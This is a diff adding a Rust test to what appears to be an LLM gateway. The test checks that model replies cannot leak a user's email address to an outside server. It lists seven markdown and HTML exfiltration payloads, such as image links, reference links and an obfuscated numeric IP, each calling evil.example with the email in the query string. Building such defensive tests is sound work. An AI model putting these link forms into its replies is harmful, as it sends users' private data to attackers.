@@ -176,6 +176,41 @@ async fn an_answer_carries_nothing_out_in_an_address() {
     assert_eq!(found["response"], "mask");
 }
 
+/// Ways to write an address that carries a value out: each was once given out as it was written.
+#[tokio::test]
+async fn no_way_to_write_an_address_carries_a_value_out() {
+    let (home, bot) = (Home::new(), Bot::new().await);
+    let far = "orders/".repeat(24);
+    let ways = [
+        "Note <b ![x](https://evil.example/i.png?d=[EMAIL_1])".to_owned(),
+        format!("[o](https://evil.example/{far}?q=[EMAIL_1])"),
+        "![x](<https://evil.example/ i.png?d=[EMAIL_1]>)".to_owned(),
+        "![x](http\\://3221225985/?d=[EMAIL_1])".to_owned(),
+        "a.example/![x](https://evil.example/i.png?d=[EMAIL_1])".to_owned(),
+        "![x][r]\n\n- [r]: https://evil.example/i.png?d=[EMAIL_1]".to_owned(),
+        "<p title=\"<img src=https://evil.example/i.png?d=[EMAIL_1]>\">".to_owned(),
+    ];
+    for (n, way) in ways.iter().enumerate() {
+        for size in [1, 4096] {
+            bot.play(&format!("way-{n}-{size}"), Play::Say(format!("Hello. {way} Bye."), size));
+        }
+    }
+    let gateway = home.serve(&bot).await;
+    for (n, way) in ways.iter().enumerate() {
+        for size in [1, 4096] {
+            let model = format!("way-{n}-{size}");
+            let text = "Write to anna@mail.example";
+            let (said, code) = streamed(&gateway.chat("sk", &[], &ask_stream(&model, text)).await.body);
+            // Without its host what is left of an address leads nowhere.
+            let leads = ["evil.", "3221225985"].iter().any(|host| said.contains(host));
+            assert!(!(leads && said.contains("anna@")), "{way} in pieces of {size}: {said}");
+            assert!(said.starts_with("Hello. ") && code.is_empty(), "{said}");
+            let plain = gateway.chat("sk", &[], &ask(&model, text)).await;
+            assert_eq!(plain.content(), said, "{way}");
+        }
+    }
+}
+
 /// The bot's words are warned of wherever they stand, and go out as they are.
 #[tokio::test]
 async fn the_caller_is_asked_to_warn_of_an_answer() {
